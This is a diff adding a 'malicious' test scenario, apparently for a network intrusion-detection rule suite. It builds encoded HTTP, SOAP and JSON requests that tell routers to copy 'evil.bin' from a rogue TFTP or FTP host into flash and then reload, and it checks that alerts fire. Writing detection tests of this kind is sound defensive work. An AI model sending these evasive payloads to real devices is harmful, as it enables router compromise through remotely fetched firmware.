@@ -46,6 +46,40 @@ def bw07_web_ios_encoded(wire: Wire) -> None:
 @scenario(
     "BW07",
     "malicious",
+    # Rules look for the rest as it is mostly written.
+    raises=[("BW07", IOS, ATTACKER, "10.0.1.1"), ("BW05", IOS + 1, ATTACKER, "10.0.1.7")],
+    site=HQ,
+    with_site=Expect(
+        (
+            *(Notice("Boot_Command", f"10.0.1.{last}", ROGUE, "evil.bin") for last in (1, 2, 3, 4, 5, 6)),
+            Notice("Remote_Reload", "10.0.1.7"),
+        )
+    ),
+)
+def bw07_web_written_otherwise(wire: Wire) -> None:
+    """The URL whole, as for a proxy; a form's field, in a body and in a query; CDATA; a query's arguments; letters by
+    their numbers, the API's own words included; a path with empty parts.
+    """
+    path = f"/level/15/exec/-/copy/tftp:%2f%2f{ROGUE}%2fevil.bin/flash:/CR"
+    http.order(wire, ATTACKER, "10.0.1.1", "http://10.0.1.1" + path)
+    form = f"command=copy+tftp%3A%2F%2F{ROGUE}%2Fevil.bin+flash%3A&command_url=%2Flevel%2F15%2Fexec%2F-"
+    kind = "application/x-www-form-urlencoded"
+    http.order(wire, ATTACKER, "10.0.1.2", "/level/15/exec/-/configure/http", form.encode(), kind=kind)
+    http.order(wire, ATTACKER, "10.0.1.3", f"/level/15/exec/-?{form}")
+    wsma = f"<cmd><![CDATA[copy {EVIL} flash:]]></cmd>"
+    soap = f'<request xmlns="urn:cisco:wsma-exec"><execCLI>{wsma}</execCLI></request>'
+    http.order(wire, ATTACKER, "10.0.1.4", "/wsma", soap.encode(), kind="text/xml")
+    package = f"ftp%3A%2F%2F{ROGUE}%2Fevil.bin"
+    http.order(wire, ATTACKER, "10.0.1.5", f"/rpc/request-package-add?package-name={package}")
+    command = rf"\u0063opy tftp:\/\/{ROGUE}\/evil.bin flash:"
+    letters = r'{"method": "\u0072unCmds", "params": {"\u0063mds": ["' + command + '"]}}'
+    http.order(wire, ATTACKER, "10.0.1.6", "/command-api", letters.encode())
+    http.order(wire, ATTACKER, "10.0.1.7", "/./level/15//exec/-/reload/CR")
+
+
+@scenario(
+    "BW07",
+    "malicious",
     raises=[
         ("BW07", sid, ATTACKER, f"10.0.1.{last}")
         for last, sid in enumerate((EAPI, EAPI, NXAPI, NXAPI, NXAPI, WSMA, ROUTEROS), 1)
